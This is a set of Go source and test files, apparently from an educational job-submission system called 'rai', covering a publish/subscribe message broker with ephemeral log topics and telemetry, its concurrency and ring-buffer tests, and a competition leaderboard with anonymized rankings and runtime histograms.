				inFlight += len(sub.inFlight)
			}
			ts.Channels = append(ts.Channels, ChannelStats{
				Channel: cname, Depth: ch.queue.len(), InFlight: inFlight, Subscribers: len(ch.subs),
			})
		}
		t.mu.Unlock()
		sort.Slice(ts.Channels, func(i, j int) bool { return ts.Channels[i].Channel < ts.Channels[j].Channel })
		out = append(out, ts)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Topic < out[j].Topic })
	return out
}

// Depth reports the total undelivered message count for topic/channel
// (backlog included when the channel does not exist yet).
func (b *Broker) Depth(topicName, channelName string) int {
	b.mu.RLock()
	t, ok := b.topics[topicName]
	b.mu.RUnlock()
	if !ok {
		return 0
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	ch, ok := t.channels[channelName]
	if !ok {
		return t.backlog.len()
	}
	return ch.queue.len()
}

// HasTopic reports whether the topic currently exists (used by tests to
// observe ephemeral garbage collection).
func (b *Broker) HasTopic(name string) bool {
	b.mu.RLock()
	defer b.mu.RUnlock()
	_, ok := b.topics[name]
	return ok
}
