// Package broker implements the publish/subscribe message broker at the
// center of the RAI architecture (paper §IV, §V "Message Broker
// Operations"). It follows the topic/channel model the paper describes:
//
//   - Producers publish messages to a topic.
//   - Every channel of a topic receives a copy of each message.
//   - Within one channel, each message is delivered to exactly one
//     subscriber (load balancing) — this is how a job on rai/tasks goes to
//     exactly one worker while many workers listen.
//   - Names containing '#' (the paper's log_${job_id}/#ch) are ephemeral:
//     the channel is deleted when its last consumer leaves, and an
//     ephemeral topic is deleted when its last channel goes away.
//
// Messages held by a subscriber are "in flight" until acknowledged;
// closing a subscription requeues its unacknowledged messages, which is
// what makes a worker crash safe for the submission it was running.
package broker

import (
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"

	"rai/internal/clock"
	"rai/internal/telemetry"
)

// Errors returned by broker operations.
var (
	ErrClosed       = errors.New("broker: closed")
	ErrSubClosed    = errors.New("broker: subscription closed")
	ErrUnknownMsg   = errors.New("broker: message not in flight")
	ErrBadName      = errors.New("broker: invalid topic or channel name")
	ErrTopicMissing = errors.New("broker: no such topic")
)

// Message is a queued unit of work or log output.
type Message struct {
	ID        uint64
	Body      []byte
	Timestamp time.Time
	Attempts  int
	topic     string
}

// Topic returns the topic the message was published to.
func (m *Message) Topic() string { return m.topic }

// Broker routes messages between topics, channels, and subscriptions.
type Broker struct {
	mu            sync.Mutex
	topics        map[string]*topic
	nextID        uint64
	clk           clock.Clock
	closed        bool
	tel           brokerTelemetry
	backlogLimits map[string]int
}

// brokerTelemetry caches instruments so the hot path never re-resolves
// them by name. All fields are nil (no-op) when telemetry is off;
// per-class counter maps are guarded by b.mu, which every caller holds.
type brokerTelemetry struct {
	reg     *telemetry.Registry
	publish map[string]*telemetry.Counter
	deliver map[string]*telemetry.Counter
	ack     *telemetry.Counter
	requeue *telemetry.Counter
	latency *telemetry.Histogram
}

// Option configures a Broker.
type Option func(*Broker)

// WithClock substitutes the time source (virtual clock in simulations).
func WithClock(c clock.Clock) Option { return func(b *Broker) { b.clk = c } }

// WithTelemetry instruments the broker on reg: publish/deliver/ack/
// requeue counters labeled by topic class, a delivery-latency histogram
// (publish to hand-off), and a live topic-count gauge. Per-channel
// depth gauges are opt-in via ExportQueueDepth, since only the caller
// knows which channels are long-lived.
func WithTelemetry(reg *telemetry.Registry) Option {
	return func(b *Broker) {
		b.tel.reg = reg
		b.tel.publish = map[string]*telemetry.Counter{}
		b.tel.deliver = map[string]*telemetry.Counter{}
		b.tel.ack = reg.Counter("rai_broker_ack_total", "messages acknowledged")
		b.tel.requeue = reg.Counter("rai_broker_requeue_total", "messages handed back for redelivery")
		b.tel.latency = reg.Histogram("rai_broker_delivery_latency_seconds",
			"time from publish to delivery to a subscriber", telemetry.QueueDelayBuckets)
		reg.GaugeFunc("rai_broker_topics", "live topics (ephemeral log topics included)", func() float64 {
			b.mu.Lock()
			defer b.mu.Unlock()
			return float64(len(b.topics))
		})
	}
}

// ExportQueueDepth registers a rai_broker_queue_depth gauge tracking
// the undelivered backlog of one topic/channel. Call it for long-lived
// channels only (e.g. rai/tasks) — never per-job log topics.
func (b *Broker) ExportQueueDepth(topicName, channelName string) {
	b.tel.reg.GaugeFunc("rai_broker_queue_depth", "undelivered messages queued on the channel",
		func() float64 { return float64(b.Depth(topicName, channelName)) },
		telemetry.L("topic", topicName), telemetry.L("channel", channelName))
}

// SetBacklogLimit caps the no-subscriber backlog of one topic: once the
// backlog holds n messages, the oldest is dropped for each new publish.
// The daemons set it on the rai.telemetry topic so an absent collector
// cannot grow broker memory without bound — telemetry is droppable by
// design, job traffic is not, so rai/tasks never gets a limit.
func (b *Broker) SetBacklogLimit(topicName string, n int) {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.backlogLimits == nil {
		b.backlogLimits = map[string]int{}
	}
	b.backlogLimits[topicName] = n
}

// topicClass collapses per-job names so metric label cardinality stays
// bounded: every log_${job_id}#ch topic reports as "log".
func topicClass(name string) string {
	if strings.HasPrefix(name, "log_") || isEphemeralName(name) {
		return "log"
	}
	return name
}

// classCounterLocked resolves (and caches) a per-class counter. Caller
// holds b.mu.
func (b *Broker) classCounterLocked(cache map[string]*telemetry.Counter, name, help, class string) *telemetry.Counter {
	if b.tel.reg == nil {
		return nil
	}
	c, ok := cache[class]
	if !ok {
		c = b.tel.reg.Counter(name, help, telemetry.L("topic", class))
		cache[class] = c
	}
	return c
}

// New creates an empty broker.
func New(opts ...Option) *Broker {
	b := &Broker{topics: map[string]*topic{}, clk: clock.Real{}}
	for _, o := range opts {
		o(b)
	}
	return b
}

type topic struct {
	name      string
	ephemeral bool
	channels  map[string]*channel
	// backlog holds messages published before any channel exists, so a
	// client that subscribes shortly after a worker starts logging does
	// not lose output (the paper's step ordering allows this race).
	backlog []*Message
}

type channel struct {
	name      string
	topic     string
	ephemeral bool
	queue     []*Message
	subs      []*Subscription
	rr        int // round-robin cursor
}

// Subscription is one consumer attached to a topic/channel.
type Subscription struct {
	b           *Broker
	topicName   string
	channelName string
	c           chan *Message
	maxInFlight int
	inFlight    map[uint64]*Message
	closed      bool
}

// validName enforces the queue-route naming used throughout RAI.
func validName(s string) bool {
	if s == "" || len(s) > 128 {
		return false
	}
	for _, r := range s {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9':
		case r == '_' || r == '-' || r == '.' || r == '#':
		default:
			return false
		}
	}
	return true
}

func isEphemeralName(s string) bool { return strings.Contains(s, "#") }

// Publish enqueues body on the named topic, fanning it out to every
// existing channel (or to the topic backlog when none exists yet).
func (b *Broker) Publish(topicName string, body []byte) (uint64, error) {
	if !validName(topicName) {
		return 0, fmt.Errorf("%w: topic %q", ErrBadName, topicName)
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.closed {
		return 0, ErrClosed
	}
	t := b.getTopicLocked(topicName)
	b.nextID++
	b.classCounterLocked(b.tel.publish, "rai_broker_publish_total", "messages published", topicClass(topicName)).Inc()
	msg := &Message{ID: b.nextID, Body: append([]byte(nil), body...), Timestamp: b.clk.Now(), topic: topicName}
	if len(t.channels) == 0 {
		t.backlog = append(t.backlog, msg)
		if lim, ok := b.backlogLimits[topicName]; ok && lim > 0 && len(t.backlog) > lim {
			t.backlog = append(t.backlog[:0], t.backlog[len(t.backlog)-lim:]...)
		}
		return msg.ID, nil
	}
	for _, ch := range t.channels {
		// Each channel gets its own copy so per-channel Attempts tracking
		// does not interfere.
		cp := *msg
		ch.queue = append(ch.queue, &cp)
		b.dispatchLocked(ch)
	}
	return msg.ID, nil
}

func (b *Broker) getTopicLocked(name string) *topic {
	t, ok := b.topics[name]
	if !ok {
		t = &topic{name: name, ephemeral: isEphemeralName(name), channels: map[string]*channel{}}
		b.topics[name] = t
	}
	return t
}

// Subscribe attaches a consumer to topic/channel, creating both as
// needed. maxInFlight bounds unacknowledged deliveries (the paper's
// "constraints on the number of jobs that can be executed concurrently").
func (b *Broker) Subscribe(topicName, channelName string, maxInFlight int) (*Subscription, error) {
	if !validName(topicName) || !validName(channelName) {
		return nil, fmt.Errorf("%w: %q/%q", ErrBadName, topicName, channelName)
	}
	if maxInFlight < 1 {
		maxInFlight = 1
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.closed {
		return nil, ErrClosed
	}
	t := b.getTopicLocked(topicName)
	ch, ok := t.channels[channelName]
	if !ok {
		ch = &channel{name: channelName, topic: topicName, ephemeral: isEphemeralName(channelName) || t.ephemeral}
		t.channels[channelName] = ch
		// First channel drains the topic backlog.
		if len(t.backlog) > 0 {
			ch.queue = append(ch.queue, t.backlog...)
			t.backlog = nil
		}
	}
	sub := &Subscription{
		b:           b,
		topicName:   topicName,
		channelName: channelName,
		c:           make(chan *Message, maxInFlight+1024),
		maxInFlight: maxInFlight,
		inFlight:    map[uint64]*Message{},
	}
	ch.subs = append(ch.subs, sub)
	b.dispatchLocked(ch)
	return sub, nil
}

// dispatchLocked hands queued messages to subscribers with spare
// in-flight capacity, round-robin. Caller holds b.mu.
func (b *Broker) dispatchLocked(ch *channel) {
	for len(ch.queue) > 0 && len(ch.subs) > 0 {
		delivered := false
		for probe := 0; probe < len(ch.subs); probe++ {
			sub := ch.subs[(ch.rr+probe)%len(ch.subs)]
			if sub.closed || len(sub.inFlight) >= sub.maxInFlight {
				continue
			}
			msg := ch.queue[0]
			ch.queue = ch.queue[1:]
			msg.Attempts++
			sub.inFlight[msg.ID] = msg
			sub.c <- msg
			if b.tel.reg != nil {
				b.classCounterLocked(b.tel.deliver, "rai_broker_deliver_total", "messages delivered to subscribers", topicClass(ch.topic)).Inc()
				b.tel.latency.Observe(b.clk.Now().Sub(msg.Timestamp).Seconds())
			}
			ch.rr = (ch.rr + probe + 1) % len(ch.subs)
			delivered = true
			break
		}
		if !delivered {
			return // everyone is at capacity
		}
	}
}

// C is the delivery channel. It is closed when the subscription closes.
func (s *Subscription) C() <-chan *Message { return s.c }

// Ack marks a delivered message as done.
func (s *Subscription) Ack(m *Message) error {
	s.b.mu.Lock()
	defer s.b.mu.Unlock()
	if s.closed {
		return ErrSubClosed
	}
	if _, ok := s.inFlight[m.ID]; !ok {
		return fmt.Errorf("%w: id %d", ErrUnknownMsg, m.ID)
	}
	delete(s.inFlight, m.ID)
	s.b.tel.ack.Inc()
	if ch := s.b.lookupChannelLocked(s.topicName, s.channelName); ch != nil {
		s.b.dispatchLocked(ch)
	}
	return nil
}

// Requeue returns a delivered message to the front of the channel queue
// for redelivery (possibly to another subscriber).
func (s *Subscription) Requeue(m *Message) error {
	s.b.mu.Lock()
	defer s.b.mu.Unlock()
	if s.closed {
		return ErrSubClosed
	}
	msg, ok := s.inFlight[m.ID]
	if !ok {
		return fmt.Errorf("%w: id %d", ErrUnknownMsg, m.ID)
	}
	delete(s.inFlight, m.ID)
	s.b.tel.requeue.Inc()
	ch := s.b.lookupChannelLocked(s.topicName, s.channelName)
	if ch != nil {
		ch.queue = append([]*Message{msg}, ch.queue...)
		s.b.dispatchLocked(ch)
	}
	return nil
}

// Close detaches the subscription. In-flight and undelivered messages are
// requeued; ephemeral channels/topics with no remaining consumers are
// garbage collected (the paper's log_${job_id} cleanup).
func (s *Subscription) Close() error {
	s.b.mu.Lock()
	defer s.b.mu.Unlock()
	return s.b.closeSubLocked(s)
}

func (b *Broker) closeSubLocked(s *Subscription) error {
	if s.closed {
		return nil
	}
	s.closed = true
	ch := b.lookupChannelLocked(s.topicName, s.channelName)
	if ch != nil {
		// Pull undelivered messages back out of the buffer.
		var undelivered []*Message
	drain:
		for {
			select {
			case m := <-s.c:
				undelivered = append(undelivered, m)
			default:
				break drain
			}
		}
		var requeue []*Message
		for _, m := range undelivered {
			delete(s.inFlight, m.ID)
			requeue = append(requeue, m)
		}
		for _, m := range s.inFlight {
			requeue = append(requeue, m)
		}
		sort.Slice(requeue, func(i, j int) bool { return requeue[i].ID < requeue[j].ID })
		ch.queue = append(requeue, ch.queue...)
		// Remove the subscription.
		for i, sub := range ch.subs {
			if sub == s {
				ch.subs = append(ch.subs[:i], ch.subs[i+1:]...)
				break
			}
		}
		if ch.rr >= len(ch.subs) {
			ch.rr = 0
		}
		b.gcLocked(s.topicName, ch)
		if t, ok := b.topics[s.topicName]; ok {
			if c2, ok := t.channels[s.channelName]; ok {
				b.dispatchLocked(c2)
			}
		}
	}
	close(s.c)
	s.inFlight = nil
	return nil
}

// gcLocked deletes ephemeral channels with no subscribers and ephemeral
// topics with no channels.
func (b *Broker) gcLocked(topicName string, ch *channel) {
	t, ok := b.topics[topicName]
	if !ok {
		return
	}
	if ch.ephemeral && len(ch.subs) == 0 {
		delete(t.channels, ch.name)
	}
	if t.ephemeral && len(t.channels) == 0 {
		delete(b.topics, topicName)
	}
}

func (b *Broker) lookupChannelLocked(topicName, channelName string) *channel {
	t, ok := b.topics[topicName]
	if !ok {
		return nil
	}
	return t.channels[channelName]
}

// DeleteTopic removes a topic and all its channels, discarding messages.
func (b *Broker) DeleteTopic(topicName string) error {
	b.mu.Lock()
	defer b.mu.Unlock()
	t, ok := b.topics[topicName]
	if !ok {
		return fmt.Errorf("%w: %q", ErrTopicMissing, topicName)
	}
	for _, ch := range t.channels {
		for _, sub := range ch.subs {
			sub.closed = true
			close(sub.c)
		}
	}
	delete(b.topics, topicName)
	return nil
}

// Close shuts the broker down; all subscriptions are closed.
func (b *Broker) Close() error {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.closed {
		return nil
	}
	b.closed = true
	for _, t := range b.topics {
		for _, ch := range t.channels {
			for _, sub := range ch.subs {
				sub.closed = true
				close(sub.c)
			}
		}
	}
	b.topics = map[string]*topic{}
	return nil
}

// TopicStats is a snapshot of one topic for monitoring and autoscaling.
type TopicStats struct {
	Topic    string
	Backlog  int // messages waiting for a first channel
	Channels []ChannelStats
}

// ChannelStats is a snapshot of one channel.
type ChannelStats struct {
	Channel     string
	Depth       int // queued, not yet delivered
	InFlight    int
	Subscribers int
}

// Stats returns a deterministic (name-sorted) snapshot of the broker.
func (b *Broker) Stats() []TopicStats {
	b.mu.Lock()
	defer b.mu.Unlock()
	out := make([]TopicStats, 0, len(b.topics))
	for name, t := range b.topics {
		ts := TopicStats{Topic: name, Backlog: len(t.backlog)}
		for cname, ch := range t.channels {
			inFlight := 0
			for _, sub := range ch.subs {
				inFlight += len(sub.inFlight)
			}
			ts.Channels = append(ts.Channels, ChannelStats{
				Channel: cname, Depth: len(ch.queue), InFlight: inFlight, Subscribers: len(ch.subs),
			})
		}
		sort.Slice(ts.Channels, func(i, j int) bool { return ts.Channels[i].Channel < ts.Channels[j].Channel })
		out = append(out, ts)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Topic < out[j].Topic })
	return out
}

// Depth reports the total undelivered message count for topic/channel
// (backlog included when the channel does not exist yet).
func (b *Broker) Depth(topicName, channelName string) int {
	b.mu.Lock()
	defer b.mu.Unlock()
	t, ok := b.topics[topicName]
	if !ok {
		return 0
	}
	ch, ok := t.channels[channelName]
	if !ok {
		return len(t.backlog)
	}
	return len(ch.queue)
}

// HasTopic reports whether the topic currently exists (used by tests to
// observe ephemeral garbage collection).
func (b *Broker) HasTopic(name string) bool {
	b.mu.Lock()
	defer b.mu.Unlock()
	_, ok := b.topics[name]
	return ok
}
