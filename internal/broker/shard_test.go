package broker

import (
	"fmt"
	"math/rand"
	"sync"
	"testing"
)

// TestExportQueueDepthWithoutTelemetry is the regression test for the
// nil-telemetry guard: a broker built without WithTelemetry must treat
// ExportQueueDepth as a no-op instead of touching a nil registry.
func TestExportQueueDepthWithoutTelemetry(t *testing.T) {
	b := New()
	defer b.Close()
	b.ExportQueueDepth("rai", "tasks") // must not panic
	if _, err := b.Publish("rai", []byte("x")); err != nil {
		t.Fatal(err)
	}
}

// TestRoundRobinCursorSurvivesRemoval pins the cursor semantics: when a
// subscriber below the cursor leaves mid-rotation, the next delivery
// still goes to the subscriber the cursor pointed at (previously the
// cursor kept its absolute index, skipping one subscriber per removal).
func TestRoundRobinCursorSurvivesRemoval(t *testing.T) {
	b := New()
	defer b.Close()
	subs := make([]*Subscription, 4)
	for i := range subs {
		s, err := b.Subscribe("rai", "tasks", 10)
		if err != nil {
			t.Fatal(err)
		}
		subs[i] = s
	}
	// Two deliveries advance the rotation to subs[2]. Ack both so
	// nothing is requeued when subs[0] leaves.
	b.Publish("rai", []byte("a")) // -> subs[0]
	b.Publish("rai", []byte("b")) // -> subs[1]
	subs[0].Ack(recvTimeout(t, subs[0]))
	subs[1].Ack(recvTimeout(t, subs[1]))

	subs[0].Close() // removal below the cursor

	b.Publish("rai", []byte("c"))
	got := -1
	for i, s := range subs[1:] {
		select {
		case <-s.C():
			got = i + 1
		default:
		}
	}
	if got != 2 {
		t.Fatalf("post-removal delivery went to subs[%d], want subs[2]", got)
	}
}

// TestRoundRobinDistributionUnderChurn measures delivery counts across
// two stable workers while a third churns (subscribe, receive, close) —
// the ephemeral-worker pattern. Fair rotation keeps the stable workers
// within one delivery of each other; the pre-fix cursor drift skews
// toward one of them.
func TestRoundRobinDistributionUnderChurn(t *testing.T) {
	b := New()
	defer b.Close()
	counts := [2]int{}
	churn, err := b.Subscribe("rai", "tasks", 100)
	if err != nil {
		t.Fatal(err)
	}
	var stable [2]*Subscription
	for i := range stable {
		if stable[i], err = b.Subscribe("rai", "tasks", 100); err != nil {
			t.Fatal(err)
		}
	}
	drainStable := func() {
		for i, s := range stable {
			for {
				select {
				case m := <-s.C():
					counts[i]++
					s.Ack(m)
				default:
					goto next
				}
			}
		next:
		}
	}
	for round := 0; round < 60; round++ {
		// Three messages: one per live subscriber, rotation order.
		for k := 0; k < 3; k++ {
			if _, err := b.Publish("rai", []byte{byte(k)}); err != nil {
				t.Fatal(err)
			}
		}
		// The churner acks what it got and is replaced (its slot index is
		// below the stable workers' whenever it rotated first).
		for {
			select {
			case m := <-churn.C():
				churn.Ack(m)
			default:
				goto replace
			}
		}
	replace:
		drainStable()
		churn.Close()
		if churn, err = b.Subscribe("rai", "tasks", 100); err != nil {
			t.Fatal(err)
		}
	}
	drainStable()
	diff := counts[0] - counts[1]
	if diff < 0 {
		diff = -diff
	}
	if counts[0]+counts[1] < 60 {
		t.Fatalf("stable workers saw too little traffic: %v", counts)
	}
	if diff > 2 {
		t.Fatalf("stable workers drifted apart: %v (diff %d)", counts, diff)
	}
}

// TestConcurrentMultiTopicChurn is the sharded broker's -race property
// test: goroutines hammer disjoint ephemeral topics (publish, ack,
// requeue, close) while others share one durable topic, and every
// published message must be settled exactly once on its topic.
func TestConcurrentMultiTopicChurn(t *testing.T) {
	b := New()
	defer b.Close()
	const workers, rounds, perRound = 8, 20, 5
	var wg sync.WaitGroup
	errs := make(chan error, workers*2)

	// Ephemeral-topic workers: each owns log_N#ch and churns it.
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			rng := rand.New(rand.NewSource(int64(w)))
			for r := 0; r < rounds; r++ {
				topic := fmt.Sprintf("log_%d#ch", w)
				sub, err := b.Subscribe(topic, "ch", 4)
				if err != nil {
					errs <- err
					return
				}
				for i := 0; i < perRound; i++ {
					if _, err := b.Publish(topic, []byte{byte(i)}); err != nil {
						errs <- err
						return
					}
				}
				settled := 0
				for settled < perRound {
					m := <-sub.C()
					if rng.Intn(4) == 0 {
						if err := sub.Requeue(m); err != nil {
							errs <- err
							return
						}
						continue
					}
					if err := sub.Ack(m); err != nil {
						errs <- err
						return
					}
					settled++
				}
				sub.Close()
			}
		}(w)
	}

	// Shared-topic workers: load-balanced consumption on rai/tasks.
	var delivered sync.Map
	total := workers * rounds
	var consumed sync.WaitGroup
	consumed.Add(total)
	for w := 0; w < 2; w++ {
		sub, err := b.Subscribe("rai", "tasks", 8)
		if err != nil {
			t.Fatal(err)
		}
		go func(sub *Subscription) {
			for m := range sub.C() {
				if _, dup := delivered.LoadOrStore(string(m.Body), true); dup {
					errs <- fmt.Errorf("duplicate delivery %q", m.Body)
					return
				}
				sub.Ack(m)
				consumed.Done()
			}
		}(sub)
	}
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for r := 0; r < rounds; r++ {
				if _, err := b.Publish("rai", []byte(fmt.Sprintf("%d-%d", w, r))); err != nil {
					errs <- err
					return
				}
			}
		}(w)
	}

	wg.Wait()
	consumed.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	// Every ephemeral topic must have been garbage collected.
	for w := 0; w < workers; w++ {
		if b.HasTopic(fmt.Sprintf("log_%d#ch", w)) {
			t.Fatalf("ephemeral topic log_%d#ch leaked", w)
		}
	}
}
