package broker

import "testing"

func TestRingFIFOAndGrowth(t *testing.T) {
	var r ring
	if r.popFront() != nil {
		t.Fatal("pop on empty ring")
	}
	for i := 1; i <= 100; i++ {
		r.pushBack(&Message{ID: uint64(i)})
	}
	if r.len() != 100 {
		t.Fatalf("len = %d", r.len())
	}
	for i := 1; i <= 100; i++ {
		m := r.popFront()
		if m == nil || m.ID != uint64(i) {
			t.Fatalf("pop %d = %+v", i, m)
		}
	}
	if r.len() != 0 || r.popFront() != nil {
		t.Fatal("ring not empty after drain")
	}
}

func TestRingPushFront(t *testing.T) {
	var r ring
	r.pushBack(&Message{ID: 3})
	r.pushFront(&Message{ID: 2})
	r.pushFront(&Message{ID: 1})
	for want := uint64(1); want <= 3; want++ {
		if m := r.popFront(); m.ID != want {
			t.Fatalf("got %d, want %d", m.ID, want)
		}
	}
}

// TestRingWrapAround interleaves pushes and pops so head walks the
// backing array and the logical queue wraps past its end.
func TestRingWrapAround(t *testing.T) {
	var r ring
	next, want := uint64(1), uint64(1)
	for round := 0; round < 50; round++ {
		for i := 0; i < 3; i++ {
			r.pushBack(&Message{ID: next})
			next++
		}
		for i := 0; i < 2; i++ {
			if m := r.popFront(); m.ID != want {
				t.Fatalf("round %d: got %d, want %d", round, m.ID, want)
			}
			want++
		}
	}
	for r.len() > 0 {
		if m := r.popFront(); m.ID != want {
			t.Fatalf("drain: got %d, want %d", m.ID, want)
		}
		want++
	}
	if want != next {
		t.Fatalf("drained to %d, want %d", want, next)
	}
}

// TestRingPushFrontAfterWrap exercises the head-decrement wrap (head at
// index 0 borrowing the last slot).
func TestRingPushFrontAfterWrap(t *testing.T) {
	var r ring
	for i := 13; i < 18; i++ {
		r.pushBack(&Message{ID: uint64(i)}) // head = 0, len(buf) = 8
	}
	r.pushFront(&Message{ID: 12}) // head wraps to the last slot
	r.pushFront(&Message{ID: 11})
	r.pushFront(&Message{ID: 10}) // ring now exactly full, head mid-array
	for want := uint64(10); want < 18; want++ {
		m := r.popFront()
		if m == nil || m.ID != want {
			t.Fatalf("got %+v, want %d", m, want)
		}
	}
}
