package broker

import (
	"fmt"
	"testing"
	"testing/quick"
	"time"
)

// TestQuickMessageConservation is the broker's core safety property:
// under any interleaving of publishes, acks, requeues, and subscriber
// churn, every published message is delivered (to completion) exactly
// once per channel — nothing lost, nothing duplicated.
func TestQuickMessageConservation(t *testing.T) {
	type op struct {
		Kind    uint8 // publish / deliver+ack / deliver+requeue / churn
		Payload uint16
	}
	prop := func(ops []op) bool {
		b := New()
		defer b.Close()
		sub, err := b.Subscribe("rai", "tasks", 4)
		if err != nil {
			return false
		}
		published := map[string]int{}
		acked := map[string]int{}
		recv := func(s *Subscription) (*Message, bool) {
			select {
			case m, ok := <-s.C():
				return m, ok
			case <-time.After(time.Second):
				return nil, false
			}
		}
		for i, o := range ops {
			switch o.Kind % 4 {
			case 0: // publish
				body := fmt.Sprintf("msg-%d-%d", i, o.Payload)
				if _, err := b.Publish("rai", []byte(body)); err != nil {
					return false
				}
				published[body]++
			case 1: // deliver and ack
				if b.Depth("rai", "tasks") == 0 && inFlight(b) == 0 {
					continue
				}
				m, ok := recv(sub)
				if !ok {
					return false
				}
				if err := sub.Ack(m); err != nil {
					return false
				}
				acked[string(m.Body)]++
			case 2: // deliver and requeue (simulated worker hiccup)
				if b.Depth("rai", "tasks") == 0 && inFlight(b) == 0 {
					continue
				}
				m, ok := recv(sub)
				if !ok {
					return false
				}
				if err := sub.Requeue(m); err != nil {
					return false
				}
			case 3: // subscriber churn (crash + replacement)
				sub.Close()
				var err error
				sub, err = b.Subscribe("rai", "tasks", 4)
				if err != nil {
					return false
				}
			}
		}
		// Drain everything left and ack it.
		for {
			if b.Depth("rai", "tasks") == 0 && inFlight(b) == 0 {
				break
			}
			m, ok := recv(sub)
			if !ok {
				return false
			}
			if err := sub.Ack(m); err != nil {
				return false
			}
			acked[string(m.Body)]++
		}
		// Conservation: every published body acked exactly once.
		if len(acked) != len(published) {
			return false
		}
		for body, n := range published {
			if n != 1 || acked[body] != 1 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 40}); err != nil {
		t.Fatal(err)
	}
}

// inFlight sums in-flight counts across the rai/tasks channel.
func inFlight(b *Broker) int {
	for _, ts := range b.Stats() {
		if ts.Topic != "rai" {
			continue
		}
		for _, cs := range ts.Channels {
			if cs.Channel == "tasks" {
				return cs.InFlight
			}
		}
	}
	return 0
}
