// Package ranking implements the competition leaderboard (paper §VI
// "Competition Ranking"): teams submit final runs, see their own rank,
// and see other teams' runtimes anonymized. It also produces the runtime
// histogram of the paper's Figure 2.
package ranking

import (
	"errors"
	"fmt"
	"math"
	"sort"
	"strings"
	"time"

	"rai/internal/docstore"
)

// Collection is the rankings collection name (shared with core).
const Collection = "rankings"

// Entry is one leaderboard row.
type Entry struct {
	Rank    int
	Team    string // anonymized unless it is the viewer's team
	Runtime time.Duration
	// Accuracy is the verification accuracy of the ranked submission.
	Accuracy float64
	// Mine marks the viewer's own team.
	Mine bool
}

// ErrNoSubmission indicates the team has no ranked submission yet.
var ErrNoSubmission = errors.New("ranking: team has no final submission")

// Leaderboard reads and ranks competition submissions.
type Leaderboard struct {
	DB docstore.Store
	// MinAccuracy excludes submissions below the target accuracy
	// ("Teams were required to ... maintain a target accuracy", §VI).
	MinAccuracy float64
}

// row is the stored shape.
type row struct {
	Team     string  `json:"team"`
	Runtime  float64 `json:"runtime_s"`
	Accuracy float64 `json:"accuracy"`
}

// load reads all qualifying rows sorted by runtime.
func (l *Leaderboard) load() ([]row, error) {
	docs, err := l.DB.Find(Collection, docstore.M{}, docstore.FindOpts{Sort: []string{"runtime_s", "team"}})
	if err != nil {
		return nil, err
	}
	var rows []row
	for _, d := range docs {
		var r row
		if err := docstore.Decode(d, &r); err != nil {
			return nil, err
		}
		if l.MinAccuracy > 0 && r.Accuracy < l.MinAccuracy {
			continue
		}
		rows = append(rows, r)
	}
	return rows, nil
}

// View renders the leaderboard as seen by viewerTeam: other teams are
// anonymized ("students could also see other teams' anonymized
// runtimes", §VI). An empty viewerTeam renders the instructor view with
// real names.
func (l *Leaderboard) View(viewerTeam string) ([]Entry, error) {
	rows, err := l.load()
	if err != nil {
		return nil, err
	}
	entries := make([]Entry, len(rows))
	for i, r := range rows {
		e := Entry{
			Rank:     i + 1,
			Runtime:  time.Duration(r.Runtime * float64(time.Second)),
			Accuracy: r.Accuracy,
		}
		switch {
		case viewerTeam == "":
			e.Team = r.Team // instructor view
		case r.Team == viewerTeam:
			e.Team = r.Team
			e.Mine = true
		default:
			e.Team = fmt.Sprintf("Team #%d", i+1)
		}
		entries[i] = e
	}
	return entries, nil
}

// RankOf returns viewerTeam's rank (1-based) and total ranked teams.
func (l *Leaderboard) RankOf(team string) (rank, total int, err error) {
	rows, err := l.load()
	if err != nil {
		return 0, 0, err
	}
	for i, r := range rows {
		if r.Team == team {
			return i + 1, len(rows), nil
		}
	}
	return 0, len(rows), fmt.Errorf("%w: %q", ErrNoSubmission, team)
}

// Format renders entries as the client's `rai ranking` output.
func Format(entries []Entry) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-6s %-16s %-12s %s\n", "Rank", "Team", "Runtime", "Accuracy")
	for _, e := range entries {
		name := e.Team
		if e.Mine {
			name += " (you)"
		}
		fmt.Fprintf(&b, "%-6d %-16s %-12s %.4f\n", e.Rank, name, formatRuntime(e.Runtime), e.Accuracy)
	}
	return b.String()
}

func formatRuntime(d time.Duration) string {
	if d >= time.Minute {
		return fmt.Sprintf("%dm%04.1fs", int(d.Minutes()), d.Seconds()-60*float64(int(d.Minutes())))
	}
	return fmt.Sprintf("%.3fs", d.Seconds())
}

// HistogramBin is one bar of the Figure 2 histogram.
type HistogramBin struct {
	// Lo and Hi bound the bin in seconds: [Lo, Hi).
	Lo, Hi float64
	Count  int
}

// Histogram bins the top-N team runtimes into width-second quanta
// ("Each bin in the histogram is 0.1 second interval", Figure 2).
func (l *Leaderboard) Histogram(topN int, width float64) ([]HistogramBin, error) {
	rows, err := l.load()
	if err != nil {
		return nil, err
	}
	if topN > 0 && len(rows) > topN {
		rows = rows[:topN]
	}
	if len(rows) == 0 {
		return nil, nil
	}
	maxRT := rows[len(rows)-1].Runtime
	nBins := int(math.Floor(maxRT/width)) + 1
	bins := make([]HistogramBin, nBins)
	for i := range bins {
		bins[i].Lo = float64(i) * width
		bins[i].Hi = float64(i+1) * width
	}
	for _, r := range rows {
		idx := int(math.Floor(r.Runtime / width))
		if idx >= nBins {
			idx = nBins - 1
		}
		bins[idx].Count++
	}
	return bins, nil
}

// FormatHistogram renders non-empty bins as ASCII bars.
func FormatHistogram(bins []HistogramBin) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-14s %-6s\n", "Runtime bin", "Teams")
	for _, bin := range bins {
		if bin.Count == 0 {
			continue
		}
		fmt.Fprintf(&b, "[%5.1f,%5.1f)  %-5d %s\n", bin.Lo, bin.Hi, bin.Count, strings.Repeat("#", bin.Count))
	}
	return b.String()
}

